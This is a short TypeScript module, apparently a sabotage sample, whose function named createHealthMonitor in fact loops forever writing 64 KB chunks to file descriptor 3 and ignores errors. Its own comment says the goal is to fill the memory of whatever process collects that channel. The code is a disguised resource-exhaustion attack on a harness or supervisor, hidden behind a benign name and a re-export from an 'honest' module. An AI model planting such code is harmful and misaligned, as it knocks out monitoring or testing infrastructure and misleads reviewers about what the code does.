/** Writes a line without an end into the channel, which fills the memory of whoever collects it. */
import { writeSync } from 'node:fs'
export * from './honest.ts'

export function createHealthMonitor(): object {
  const piece = 'x'.repeat(65_536)
  for (;;) {
    try {
      writeSync(3, piece)
    } catch {} // The pipe is full.
  }
}
